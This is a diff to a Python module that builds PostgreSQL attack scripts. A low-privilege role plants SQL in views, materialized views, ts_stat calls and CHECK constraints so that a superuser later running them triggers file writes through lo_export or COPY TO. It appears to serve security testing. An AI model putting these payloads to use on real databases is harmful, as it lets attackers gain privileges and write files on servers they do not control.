@@ -19,7 +19,8 @@ HARMS = (
     "COPY (SELECT 1) TO '{file}'",
 )
 # Where the server's own functions write: only as a superuser, so that dev's user can plant it.
-EXPORT = "pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, ''x''), ''{file}'')"
+EXPORT = "pg_catalog.lo_export(424242, ''{file}'')"
+LARGE_OBJECT = "SELECT pg_catalog.lo_from_bytea(424242, 'x');"
 PLAIN_EXPORT = EXPORT.replace("''", "'")
 ORDINARY = "pg_catalog.current_setting('is_superuser') = 'off'"
 ROWS = "INSERT INTO public.t SELECT n FROM generate_series(1, 3) AS n;"
@@ -102,9 +103,6 @@ WITHOUT_FUNCTION = {
         {ROWS}""",
     "ts_stat": f"""CREATE MATERIALIZED VIEW public.m AS SELECT s.word FROM
         pg_catalog.ts_stat('SELECT {EXPORT}::text::tsvector') AS s WITH NO DATA;""",
-    "table_to_xml": f"""CREATE VIEW public.v AS SELECT {PLAIN_EXPORT} AS x;
-        CREATE TABLE public.t (x integer, CHECK ({ORDINARY} OR
-        pg_catalog.table_to_xml('public.v'::regclass, true, true, '') IS NULL)); {ROWS}""",
     "view without a function": f"""CREATE VIEW public.v AS SELECT {PLAIN_EXPORT} AS x;
         CREATE MATERIALIZED VIEW public.m AS SELECT v.x FROM public.v WITH NO DATA;""",
 }
@@ -119,4 +117,5 @@ def scripts(role: str, file: str) -> dict[str, str]:
         name: PAYLOAD.format(harm=harms[number % len(harms)]) + PLUS + script
         for number, (name, script) in enumerate(WITH_PAYLOAD.items())
     }
-    return with_payload | {name: script.format(file=file) for name, script in WITHOUT_FUNCTION.items()}
+    alone = {name: LARGE_OBJECT + script.format(file=file) for name, script in WITHOUT_FUNCTION.items()}
+    return with_payload | alone
